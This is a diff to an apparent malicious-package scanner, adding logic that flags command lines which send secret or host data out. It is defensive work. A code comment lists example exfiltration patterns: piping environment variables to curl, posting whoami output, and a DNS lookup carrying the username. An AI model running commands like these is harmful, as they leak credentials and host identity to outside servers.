@@ -10,6 +10,7 @@ import re
 
 from pipwarden.scan import blobs as B
 from pipwarden.scan import patterns as P
+from pipwarden.scan import shellflow
 from pipwarden.scan.engine.state import AnalyzerState
 from pipwarden.scan.engine.values import (
     _IMDS_HOST_RE,
@@ -231,6 +232,21 @@ class Sinks(AnalyzerState):
                     Fact.HOST_INFO_SENT,
                     node,
                     f"host data on the command line of {prog}",
+                    where=self.where,
+                )
+        else:
+            # env | curl -d @- URL; whoami > f; curl -d @f URL; nslookup $(whoami).host
+            flows = [(kind, t) for t in texts if (kind := shellflow.sent(t)) is not None]
+            kind, text = max(flows, key=lambda f: f[0] == "secret", default=(None, ""))
+            if kind == "secret":
+                self.observe(
+                    Fact.SECRET_SENT, node, f"the command line sends secret data: {text[:80]!r}"
+                )
+            elif kind == "host":
+                self.observe(
+                    Fact.HOST_INFO_SENT,
+                    node,
+                    f"the command line sends host data: {text[:80]!r}",
                     where=self.where,
                 )
         for t in texts:
